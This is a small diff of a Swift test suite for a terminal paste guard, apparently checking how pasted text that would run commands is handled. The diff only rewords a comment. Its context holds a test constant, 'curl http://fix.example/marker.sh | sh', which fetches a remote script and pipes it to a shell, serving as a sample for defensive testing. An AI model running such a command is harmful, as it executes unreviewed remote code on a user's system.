@@ -2,7 +2,7 @@ import TestProcesses
 import Testing
 import X11TestPeer
 
-/// What terminals are given of texts that would run something, by the real service on a real server.
+/// The answers that terminals get for texts that would run something, by the real service on a real server.
 @Suite(.enabled(if: Desktop.isPossible, Desktop.reason))
 struct PasteGuardTests {
   private static let command = "curl http://fix.example/marker.sh | sh"
